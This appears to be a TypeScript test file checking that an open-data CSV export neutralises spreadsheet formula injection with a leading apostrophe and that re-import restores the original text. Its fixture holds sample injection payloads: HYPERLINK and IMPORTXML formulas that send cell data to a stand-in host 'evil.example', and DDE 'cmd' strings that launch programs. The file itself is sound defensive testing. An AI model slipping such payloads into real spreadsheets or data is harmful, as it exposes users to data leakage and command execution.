// Formulas in the open-data CSV (issue 11, item 9): text from an anonymous report (published) or a
// funding call that a spreadsheet would run — `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)` — comes out
// neutralised with a leading apostrophe, and the importer drops it, so export → import gives back
// the original text.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildNetwork } from "../../../../test/helpers/factories.ts";
import { buildCall } from "../../../../test/helpers/funding.ts";
import { buildPractice } from "../../../../test/helpers/practices.ts";
import { createTestRuntime, type TestRuntime } from "../../../../test/helpers/runtime.ts";
import { importPractices } from "../import/service.ts";
import { exportPractices } from "./export.ts";

let t: TestRuntime;
beforeAll(async () => {
  t = await createTestRuntime();
});
afterAll(() => t.close());

const HOSTILE = {
  title: '=HYPERLINK("https://evil.example/?leak="&A1,"Apri")',
  summary: "+cmd|' /C calc'!A0",
  problem: "@SUM(1+1)*cmd|' /C calc'!A0",
  solution: "-2+3+cmd|' /C notepad'!A0",
  results: "'=già protetto a mano",
  place: '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
};
const FORMULA_START = /^[=+\-@\t\r]/;

const rowsOf = (csv: string) => parse(csv, { columns: true, bom: true }) as Record<string, string>[];

describe("the open-data CSV", () => {
  it("neutralises formulas in practices and funding calls, and imports back as the original text", async () => {
    const a = await buildNetwork(t);
    await buildPractice(t, { networkId: a.id, ...HOSTILE });
    await buildCall(t, a.id, { title: '=HYPERLINK("https://evil.example")', summary: "@SUM(A1)" });

    const csv = await (await t.app.request(`/open-data/${a.slug}/practices.csv`)).text();
    const [row] = rowsOf(csv);
    for (const key of Object.keys(HOSTILE) as (keyof typeof HOSTILE)[]) {
      expect({ key, cell: row![key] }).toEqual({ key, cell: `'${HOSTILE[key]}` });
      expect(row![key]).not.toMatch(FORMULA_START);
    }

    const calls = rowsOf(await (await t.app.request(`/open-data/${a.slug}/funding.csv`)).text());
    expect(calls.map((c) => [c.title, c.summary])).toEqual([
      ['\'=HYPERLINK("https://evil.example")', "'@SUM(A1)"],
    ]);

    // Imported elsewhere, the records are the original text, apostrophe typed by hand included.
    const b = await buildNetwork(t);
    const report = await importPractices(t.deps, { networkId: b.id, bytes: new TextEncoder().encode(csv) });
    expect([report.imported, report.failures]).toEqual([1, []]);
    const strip = (rows: Awaited<ReturnType<typeof exportPractices>>) =>
      rows.map(({ id: _i, url: _u, extra: _e, ...r }) => r);
    const [back] = strip(await exportPractices(t.deps, b.id));
    expect(back).toMatchObject(HOSTILE);
    expect(strip(await exportPractices(t.deps, b.id))).toEqual(strip(await exportPractices(t.deps, a.id)));
  });
});
